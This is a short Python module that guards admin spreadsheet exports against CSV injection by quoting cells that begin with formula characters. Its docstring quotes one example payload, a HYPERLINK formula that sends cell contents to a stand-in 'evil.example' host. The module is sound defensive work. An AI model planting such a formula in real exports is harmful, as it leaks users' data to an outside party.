"""Cells of the spreadsheets the admin exports (CSV now, XLSX later), safe to open in Excel.

A cell whose text starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some
spreadsheets skip before one of them) is run as a formula when the file is opened: an article
titled ``=HYPERLINK("https://evil.example?"&A1, "Bấm")`` would leak the sheet or worse (OWASP
"CSV injection"). Such text gets a leading apostrophe, which spreadsheets show as plain text.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a spreadsheet shows it literally: text that would be a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
